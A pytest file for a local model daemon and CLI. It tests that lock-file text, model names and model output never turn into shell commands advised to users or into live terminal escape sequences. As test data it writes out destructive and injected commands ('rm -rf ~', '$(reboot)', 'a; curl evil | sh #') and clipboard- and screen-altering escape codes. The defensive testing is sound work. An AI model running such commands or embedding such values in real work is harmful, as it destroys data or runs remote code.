"""What a file or another program says never becomes a word of a command that a person is told."""

import contextlib
import fcntl
import os
import pty
import shlex
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from tests.daemon.house import DAEMON_PROGRAM
from umad.cli.agents import AGENTS, Target
from umad.cli.launch import _print
from umad.daemon.socket_file import SocketFile
from umad.errors import AlreadyRunning, BadConfig, Unsupported
from umad.model_names import unknown_model
from umad.testing import FakeModel


@contextmanager
def locked(path: Path, text: bytes) -> Iterator[None]:
    """Somebody's lock file beside `path`, with whatever they wrote into it."""
    fd = os.open(path.with_name(path.name + ".lock"), os.O_RDWR | os.O_CREAT, 0o600)
    os.write(fd, text)
    fcntl.flock(fd, fcntl.LOCK_EX)
    yield
    os.close(fd)


@pytest.mark.parametrize(
    "text",
    [
        b"1; rm -rf ~\n",
        b"$(reboot)",
        b"`reboot`",
        b"-1",
        b"0",
        b"00",
        b"+7",
        b"4_2",
        b"1 2",
        b"12\x1b[2J",
        b"\xd9\xa3",  # a digit, though no ASCII one
        b"9" * 64,
        b"",
    ],
)
def test_a_lock_files_text_is_no_part_of_the_command_that_is_advised(
    text: bytes, tmp_path: Path
) -> None:
    path = tmp_path / "u.sock"

    with locked(path, text), pytest.raises(AlreadyRunning) as caught:
        SocketFile.claim(path)

    assert "kill" not in caught.value.message
    assert str(path) in caught.value.message


def test_a_pid_in_it_is(tmp_path: Path) -> None:
    path = tmp_path / "u.sock"

    with locked(path, b"4194303\n"), pytest.raises(AlreadyRunning, match=r"kill 4194303$"):
        SocketFile.claim(path)


def test_a_lock_file_that_is_another_name_of_a_file_is_not_written_over(tmp_path: Path) -> None:
    precious = tmp_path / "precious"
    precious.write_text("years of work")
    os.link(precious, tmp_path / "u.sock.lock")

    with pytest.raises(BadConfig, match="not this user's own"):
        SocketFile.claim(tmp_path / "u.sock")

    assert precious.read_text() == "years of work"


@pytest.mark.skipif(os.getuid() != 0, reason="gives a file away, which root can")
def test_a_lock_file_that_somebody_else_planted_is_refused(tmp_path: Path) -> None:
    planted = tmp_path / "u.sock.lock"
    planted.touch()
    os.chown(planted, 65534, 65534)

    with pytest.raises(BadConfig, match="not this user's own"):
        SocketFile.claim(tmp_path / "u.sock")


def test_a_models_name_in_advice_is_one_word_for_a_shell() -> None:
    name = "a; curl evil | sh #"

    error = unknown_model(name, ())

    assert shlex.split(error.message.split("load it: ")[1]) == ["umad", "load", name]


# A title, a copy into the clipboard, a cleared screen, and a line written over another.
ESCAPES = "ok \x1b]0;owned\x07\x1b]52;c;ZXZpbA==\x07\x1b[2J\x9b2Jsafe\rrm -rf ~\n\tdone\n"


def said_on_a_terminal(command: list[str], environment: dict[str, str]) -> bytes:
    """What a program writes to a terminal."""
    ours, theirs = pty.openpty()
    process = subprocess.Popen(
        command, stdin=subprocess.DEVNULL, stdout=theirs, stderr=theirs, env=environment
    )
    os.close(theirs)
    said = b""
    # The end of a terminal whose other side has closed is an error.
    with contextlib.suppress(OSError):
        while data := os.read(ours, 65536):
            said += data
    os.close(ours)
    process.wait(60)
    return said


@pytest.fixture
def daemon(short_tmp_path: Path) -> Iterator[Path]:
    """The socket of a daemon whose model writes what a terminal would obey."""
    model = FakeModel(script=(ESCAPES, ESCAPES)).write(short_tmp_path / "a.gguf")
    process = subprocess.Popen(
        [sys.executable, "-c", DAEMON_PROGRAM, str(short_tmp_path / "u.sock"), "1", str(model)],
        stderr=subprocess.PIPE,
        text=True,
    )
    assert process.stderr is not None
    assert any("umad ready" in line for line in process.stderr)
    yield short_tmp_path / "u.sock"
    process.terminate()
    process.stderr.read()
    process.stderr.close()
    process.wait(30)


def test_what_a_model_writes_is_nothing_that_a_terminal_obeys(daemon: Path) -> None:
    umad = str(Path(sys.executable).with_name("umad"))
    command = [umad, "run", f"--socket={daemon}", "--chat", "hello"]
    plain = {name: text for name, text in os.environ.items() if not name.startswith("UMAD_")}

    shown = said_on_a_terminal(command, plain)
    piped = subprocess.run(
        command, stdin=subprocess.DEVNULL, capture_output=True, env=plain, timeout=60, check=True
    )

    assert b"\\x1b]0;owned\\x07" in shown
    assert b"\tdone" in shown
    # A terminal's own line ends are CR LF.
    assert not set(shown.replace(b"\r\n", b"\n").decode()) & set("\x1b\x07\x9b\r")
    # A program gets what the model wrote.
    assert ESCAPES.encode() in piped.stdout


def test_a_model_whose_name_a_terminal_would_obey_is_no_part_of_a_printed_command() -> None:
    agent = AGENTS["claude"]
    target = Target(url="http://127.0.0.1:8080", model="a\x1b[2J\nrm -rf ~", key="k", cells=64)

    with pytest.raises(Unsupported, match="rename its file"):
        _print(agent, agent.setting(target), ())
